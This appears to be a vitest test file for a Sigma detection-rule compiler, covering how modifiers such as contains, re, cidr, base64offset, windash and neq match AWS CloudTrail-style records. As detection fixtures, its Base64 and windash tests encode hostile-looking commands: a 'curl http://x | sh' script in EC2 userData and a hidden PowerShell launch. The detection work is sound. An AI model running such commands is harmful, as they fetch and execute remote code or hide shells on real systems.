import { describe, expect, it } from 'vitest';
import { base64, base64Offsets } from './base64.ts';
import { detection, item, itemIssues } from '../testdata/compile-rule.ts';

// Conformance of every supported modifier, alone and combined, and of the
// problems reported for unknown, unsupported and inconsistent ones.
describe('modifiers', () => {
  it('contains, startswith and endswith wrap the value in wildcards (keeping its own)', () => {
    expect(item('userAgent|contains', 'Boto3').matches({ userAgent: 'Python boto3/1.3' })).toBe(true);
    expect(item('userAgent|contains', 'Boto3').matches({ userAgent: 'Python' })).toBe(false);
    expect(item('userAgent|startswith', 'aws-cli').matches({ userAgent: 'AWS-CLI/2' })).toBe(true);
    expect(item('userAgent|startswith', 'aws-cli').matches({ userAgent: 'x aws-cli' })).toBe(false);
    expect(item('userAgent|endswith', '.exe').matches({ userAgent: 'C:\\tool.EXE' })).toBe(true);
    expect(item('userAgent|endswith', '.exe').matches({ userAgent: 'tool.exe.bak' })).toBe(false);
    expect(item('f|contains', 'a*c').matches({ f: 'xxabbbcxx' })).toBe(true);
    expect(item('f|contains', 'a?c').matches({ f: 'xxabcxx' })).toBe(true);
    expect(item('f|contains', '').matches({ f: 'anything' })).toBe(true);
    expect(item('f|contains', 'x').matches({ f: 42 })).toBe(false);
    expect(item('f|contains', '4').matches({ f: 142 })).toBe(true);
  });

  it('all: every value must match (the default is any)', () => {
    const all = item('requestParameters|contains|all', ['"s3:GetObject"', '"Allow"']);
    const policy = JSON.stringify({ Statement: [{ Effect: 'Allow', Action: 's3:GetObject' }] });
    expect(all.matches({ requestParameters: { policyDocument: policy } })).toBe(true);
    expect(all.matches({ requestParameters: { policyDocument: policy.replace('Allow', 'Deny') } })).toBe(false);
    expect(item('requestParameters|contains', ['"s3:GetObject"', '"nope"']).matches({ requestParameters: { policyDocument: policy } })).toBe(true);
    // Each value may match a different element of a multi-valued field.
    expect(item('tags|all', ['a', 'b']).matches({ tags: ['a', 'b'] })).toBe(true);
  });

  it('cased: compare case-sensitively', () => {
    expect(item('userIdentity.accessKeyId|startswith|cased', 'AKIA').matches({ userIdentity: { accessKeyId: 'AKIAXYZ' } })).toBe(true);
    expect(item('userIdentity.accessKeyId|startswith|cased', 'AKIA').matches({ userIdentity: { accessKeyId: 'akiaxyz' } })).toBe(false);
    expect(item('f|cased', 'Ab*').matches({ f: 'Abc' })).toBe(true);
    expect(item('f|cased', 'Ab*').matches({ f: 'abc' })).toBe(false);
  });

  it('exists: the field is present (whatever its value, null included), or absent', () => {
    const present = item('errorCode|exists', true);
    const absent = item('errorCode|exists', false);
    for (const value of ['', null, 'x', 0, false, {}, []]) {
      expect(present.matches({ errorCode: value })).toBe(true);
      expect(absent.matches({ errorCode: value })).toBe(false);
    }
    expect(present.matches({})).toBe(false);
    expect(absent.matches({})).toBe(true);
    expect(item('resources.ARN|exists', true).matches({ resources: [{}, { ARN: 'a' }] })).toBe(true);
    expect(item('resources.ARN|exists', true).matches({ resources: [{}, {}] })).toBe(false);
  });

  it('re: an RE2 search anywhere in the value, case-sensitive unless i', () => {
    const re = item('userIdentity.arn|re', '.+:assumed-role/aws:.+');
    expect(re.matches({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1' } })).toBe(true);
    expect(re.matches({ userIdentity: { arn: 'arn:aws:sts::1:assumed-role/AWS:ec2-instance/i-1' } })).toBe(false);
    expect(item('f|re', 'b+').matches({ f: 'abbbc' })).toBe(true);
    expect(item('f|re', '^b+$').matches({ f: 'abbbc' })).toBe(false);
    expect(item('f|re|i', '^AB').matches({ f: 'abc' })).toBe(true);
    expect(item('f|re', '^b$').matches({ f: 'a\nb\nc' })).toBe(false);
    expect(item('f|re|m', '^b$').matches({ f: 'a\nb\nc' })).toBe(true);
    expect(item('f|re', 'a.c').matches({ f: 'a\nc' })).toBe(false);
    expect(item('f|re|s', 'a.c').matches({ f: 'a\nc' })).toBe(true);
    expect(item('f|re', '^4\\d$').matches({ f: 42 })).toBe(true);
    // An inline (?i) makes the expression case-insensitive, as the i sub-modifier does.
    expect(item('f|re', '(?i)^AB').matches({ f: 'abc' })).toBe(true);
  });

  it('pySigma re|contains, re|startswith, re|endswith: a position after re pads the expression with .*, which changes nothing in a search', () => {
    for (const position of ['contains', 'startswith', 'endswith']) {
      const test = item(`userAgent|re|${position}`, 'Boto3/1\\.\\d+');
      expect(test.matches({ userAgent: 'aws-sdk Boto3/1.34 Python' }), position).toBe(true);
      expect(test.matches({ userAgent: 'boto3/1.34' }), position).toBe(false);
      expect(item(`f|re|${position}`, '^a$').matches({ f: 'xa' }), position).toBe(false);
    }
    expect(detection("keywords: { '|re|contains': ['Team-[A-Z]'] }\ncondition: keywords").matches({ tags: ['Team-Red'] })).toBe(true);
  });

  it('cidr: an IPv4 or IPv6 address inside the range; a service name never is', () => {
    const v4 = item('sourceIPAddress|cidr', '203.0.113.0/24');
    expect(v4.matches({ sourceIPAddress: '203.0.113.9' })).toBe(true);
    expect(v4.matches({ sourceIPAddress: '203.0.114.9' })).toBe(false);
    expect(v4.matches({ sourceIPAddress: 'bedrock.amazonaws.com' })).toBe(false);
    expect(item('sourceIPAddress|cidr', ['10.0.0.0/8', '2001:db8::/32']).matches({ sourceIPAddress: '2001:db8::1' })).toBe(true);
  });

  it('base64 and base64offset: match the encoded value, at any offset for base64offset', () => {
    expect(base64('whoami')).toBe('d2hvYW1p');
    expect(base64Offsets('whoami')).toEqual(['d2hvYW1p', 'dob2Fta', '3aG9hbW']); // as pySigma computes them
    const plain = item('requestParameters.userData|base64', 'whoami');
    expect(plain.matches({ requestParameters: { userData: 'd2hvYW1p' } })).toBe(true);
    const offset = item('requestParameters.userData|base64offset|contains', 'curl http');
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const encoded = Buffer.from(`#!/bin/sh\n${prefix}curl http://x | sh`).toString('base64');
      expect(offset.matches({ requestParameters: { userData: encoded } })).toBe(true);
    }
    expect(offset.matches({ requestParameters: { userData: Buffer.from('wget http://x').toString('base64') } })).toBe(false);
  });

  it('spec "modifiers are applied in the given order": windash before an encoding encodes every dash form of the value', () => {
    const encodedForms = item('requestParameters.userData|windash|base64offset|contains', ' -nop ');
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      for (const prefix of ['', 'a', 'ab']) {
        const encoded = Buffer.from(`${prefix}powershell ${dash}nop -w hidden`).toString('base64');
        expect(encodedForms.matches({ requestParameters: { userData: encoded } }), `${prefix}${dash}`).toBe(true);
      }
    }
    expect(encodedForms.matches({ requestParameters: { userData: Buffer.from('powershell +nop -w hidden').toString('base64') } })).toBe(false);
    expect(item('f|windash|base64', '-x').matches({ f: Buffer.from('/x').toString('base64') })).toBe(true);
    // Written after the encoding, windash reads the encoded text as it is: `/` in it is a Base64 character, not a flag.
    expect(item('f|base64|windash', '-x').matches({ f: Buffer.from('/x').toString('base64') })).toBe(false);
    expect(itemIssues('f|windash|base64', '-a -b -c -d -e').map((i) => i.message)).toEqual(['"windash" before "base64" encodes every dash form of the value, so it takes at most 4 flag dashes']);
  });

  it('gt, gte, lt, lte: compare numbers (numeric strings too)', () => {
    const record = (n: unknown): unknown => ({ requestParameters: { maxResults: n } });
    expect(item('requestParameters.maxResults|gt', 10).matches(record(11))).toBe(true);
    expect(item('requestParameters.maxResults|gt', 10).matches(record(10))).toBe(false);
    expect(item('requestParameters.maxResults|gte', 10).matches(record('10'))).toBe(true);
    expect(item('requestParameters.maxResults|lt', 10).matches(record(9.5))).toBe(true);
    expect(item('requestParameters.maxResults|lt', 10).matches(record(10))).toBe(false);
    expect(item('requestParameters.maxResults|lte', 10).matches(record(10))).toBe(true);
    expect(item('requestParameters.maxResults|lte', 10).matches(record('ten'))).toBe(false);
    expect(item('requestParameters.maxResults|lte', 10).matches({})).toBe(false);
  });

  it('fieldref: compare with another field of the same record', () => {
    const same = item('userIdentity.userName|fieldref', 'requestParameters.userName');
    expect(same.matches({ userIdentity: { userName: 'Alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
    expect(same.matches({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } })).toBe(false);
    expect(same.matches({ userIdentity: { userName: 'alice' }, requestParameters: {} })).toBe(false);
    const contains = item('userIdentity.arn|fieldref|contains', 'requestParameters.userName');
    expect(contains.matches({ userIdentity: { arn: 'arn:aws:iam::1:user/alice' }, requestParameters: { userName: 'alice' } })).toBe(true);
    expect(item('a|fieldref|cased', 'b').matches({ a: 'X', b: 'x' })).toBe(false);
  });

  it('spec v2.1 "neq: the field is different from the specified values", for strings, numbers and fieldref', () => {
    const notAdmin = item('userIdentity.userName|neq', 'admin');
    expect(notAdmin.matches({ userIdentity: { userName: 'mallory' } })).toBe(true);
    expect(notAdmin.matches({ userIdentity: { userName: 'Admin' } })).toBe(false);
    // A missing or null field differs from nothing (`not` on a selection says "missing, or different").
    expect(notAdmin.matches({ userIdentity: {} })).toBe(false);
    expect(notAdmin.matches({ userIdentity: { userName: null } })).toBe(false);
    // Different from every value of the list; of an array field, no element equal.
    const neither = item('f|neq', ['a', 'b']);
    expect(neither.matches({ f: 'c' })).toBe(true);
    expect(neither.matches({ f: 'b' })).toBe(false);
    expect(neither.matches({ f: ['c', 'a'] })).toBe(false);
    // Numbers by value, its modifiers as for equality.
    expect(item('f|neq', 42).matches({ f: '42' })).toBe(false);
    expect(item('f|neq', 42).matches({ f: 43 })).toBe(true);
    expect(item('f|contains|neq', 'adm').matches({ f: 'sysadmin' })).toBe(false);
    expect(item('f|contains|neq', 'adm').matches({ f: 'mallory' })).toBe(true);
    const otherUser = item('userIdentity.userName|fieldref|neq', 'requestParameters.userName');
    expect(otherUser.matches({ userIdentity: { userName: 'admin' }, requestParameters: { userName: 'mallory' } })).toBe(true);
    expect(otherUser.matches({ userIdentity: { userName: 'Mallory' }, requestParameters: { userName: 'mallory' } })).toBe(false);
    expect(otherUser.matches({ userIdentity: { userName: 'admin' }, requestParameters: {} })).toBe(false);
    expect(itemIssues('f|neq|re', 'a').map((i) => i.message)).toEqual(['"neq" cannot be combined with "re": it negates an equality (of a string, a number or a field reference)']);
    expect(itemIssues('f|gt|neq', 1).map((i) => i.kind)).toEqual(['invalid']);
  });

  it('spec v2.1 time modifiers (as pySigma reads them): minute, hour, day, week, month, year of a timestamp equal the number, no time zone converted', () => {
    const at = (eventTime: string) => ({ eventTime });
    expect(item('eventTime|hour', 3).matches(at('2026-03-02T03:59:59Z'))).toBe(true);
    expect(item('eventTime|hour', 3).matches(at('2026-03-02T04:00:00Z'))).toBe(false);
    expect(item('eventTime|hour', [22, 23, 0]).matches(at('2026-03-02T00:10:00Z'))).toBe(true);
    expect(item('eventTime|minute', 59).matches(at('2026-03-02T03:59:59Z'))).toBe(true);
    expect(item('eventTime|day', 2).matches(at('2026-03-02T03:59:59Z'))).toBe(true);
    expect(item('eventTime|month', 3).matches(at('2026-03-02T03:59:59Z'))).toBe(true);
    expect(item('eventTime|year', 2026).matches(at('2026-03-02T03:59:59Z'))).toBe(true);
    // ISO weeks: 2026-01-01 is a Thursday (week 1); 2027-01-01 a Friday (week 53 of 2026).
    expect(item('eventTime|week', 1).matches(at('2026-01-01T00:00:00Z'))).toBe(true);
    expect(item('eventTime|week', 53).matches(at('2027-01-01T00:00:00Z'))).toBe(true);
    expect(item('eventTime|week', 10).matches(at('2026-03-02T00:00:00Z'))).toBe(true);
    // The time as written: the specification's time modifiers convert no time zone.
    expect(item('eventTime|hour', 12).matches(at('2026-03-02T12:00:00+02:00'))).toBe(true);
    // Not a timestamp, not a real date, a number, a missing field: no part to compare.
    for (const record of [at('yesterday'), at('2026-02-30T03:00:00Z'), { eventTime: 3 }, {}]) expect(item('eventTime|hour', 3).matches(record)).toBe(false);
    const invalid = (key: string, value: unknown): string[] => itemIssues(key, value).map((i) => i.message);
    expect(invalid('eventTime|hour', 'night')).toEqual(['"hour" compares a part of a timestamp with a whole number, got "night"']);
    expect(invalid('eventTime|hour|minute', 3)).toEqual(['"hour" and "minute" cannot be combined: a value is one part of a timestamp']);
    expect(invalid('eventTime|hour|gte', 3)).toEqual(['"gte" and "hour" cannot be combined']);
    expect(invalid('eventTime|hour|cased', 3)).toEqual(['"hour" compares a number with a part of a timestamp: it takes no "cased"']);
  });

  it('windash: a flag dash also matches /, en dash, em dash and horizontal bar', () => {
    const test = item('userAgent|windash|contains', ' -enc ');
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) expect(test.matches({ userAgent: `tool ${dash}enc x` })).toBe(true);
    expect(test.matches({ userAgent: 'tool +enc x' })).toBe(false);
    expect(item('f|windash', 'us-east-1').matches({ f: 'us-east-1' })).toBe(true);
  });

  it('report an unknown modifier as invalid, naming it', () => {
    expect(itemIssues('eventName|contians', 'x')).toEqual([{ kind: 'invalid', path: ['detection', 'selection', 'eventName|contians'], message: 'unknown modifier "contians"' }]);
  });

  it('report an unsupported modifier, naming it', () => {
    for (const modifier of ['expand', 'utf16le', 'wide']) {
      const issues = itemIssues(`f|${modifier}`, 'x');
      expect(issues.map((i) => i.kind)).toEqual(['unsupported']);
      expect(issues[0]!.message).toContain(`unsupported modifier "${modifier}"`);
    }
  });

  it('report inconsistent modifier chains and values of the wrong kind', () => {
    const invalid = (key: string, value: unknown): string[] => itemIssues(key, value).map((i) => `${i.kind}: ${i.message}`);
    expect(invalid('f|contains|startswith', 'x')).toEqual(['invalid: "startswith" and "contains" cannot be combined']);
    expect(invalid('f|contains|re', 'x')).toEqual(['invalid: "re" cannot be combined with "contains"']);
    expect(invalid('f|contains|base64', 'x')).toEqual(['invalid: "base64" must come before "contains": the value is encoded first, then searched for']);
    expect(invalid('f|i', 'x')).toEqual(['invalid: the regular expression flags i, m and s need the "re" modifier']);
    expect(invalid('f|gt', 'ten')).toEqual(['invalid: "gt" compares numbers, got "ten"']);
    expect(invalid('f|cidr', '10.0.0.0/33')[0]).toContain('"cidr" needs an IPv4 or IPv6 range');
    expect(invalid('f|exists', 'yes')).toEqual(['invalid: "exists" takes one value, true or false']);
    expect(invalid('f|re', '(a)\\1')[0]).toContain('invalid or unsupported regular expression');
    expect(invalid('f|re', '(?=a)')[0]).toContain('invalid or unsupported regular expression');
    expect(invalid('f|base64', 'a*')).toEqual(['invalid: "base64" cannot encode a value with wildcards; escape "*" and "?" with a backslash']);
    expect(invalid('f|contains', null)).toEqual(['invalid: null matches a missing or null field and takes no modifier']);
    expect(invalid('f', [])).toEqual(['invalid: the list of values is empty, so nothing could ever match']);
    expect(invalid('f', { nested: 1 })).toEqual(['invalid: a value must be a string, number, boolean or null, got a mapping']);
    expect(invalid('f||contains', 'x')).toEqual(['invalid: empty modifier (two "|" in a row)']);
  });
});
